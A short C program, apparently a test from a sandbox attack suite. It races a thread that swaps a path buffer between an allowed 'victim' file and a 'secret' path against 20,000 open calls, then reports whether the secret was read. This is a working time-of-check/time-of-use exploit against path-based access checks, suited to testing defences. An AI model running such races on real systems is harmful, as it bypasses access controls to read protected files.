#include "attack.h"
#include <pthread.h>
static char buf[4096];
static const char *a, *b;
static volatile int stop;
static void *flip(void *x) {
    (void)x;
    while (!stop) { strcpy(buf, a); strcpy(buf, b); }
    return 0;
}
int main(int argc, char **argv) {
    ARGS
    a = cat2(ro, "/victim");
    b = secret;
    /* same length so the flip never leaves a mix with a stray tail */
    strcpy(buf, a);
    pthread_t t;
    pthread_create(&t, 0, flip, 0);
    int opened = 0, fails = 0;
    char rb[256];
    for (int i = 0; i < 20000; i++) {
        long fd = i & 1 ? raw(SYS_openat, AT_FDCWD, buf, O_RDONLY, 0) : lc(open(buf, O_RDONLY));
        if (fd < 0) { fails++; continue; }
        opened++;
        long n = read(fd, rb, sizeof rb - 1);
        if (n > 0) { rb[n] = 0; if (strncmp(rb, "victim", 6)) printf("READ something else: %s\n", rb); }
        close(fd);
    }
    stop = 1;
    pthread_join(t, 0);
    printf("opened %d, failed %d\n", opened, fails);
    return 0;
}
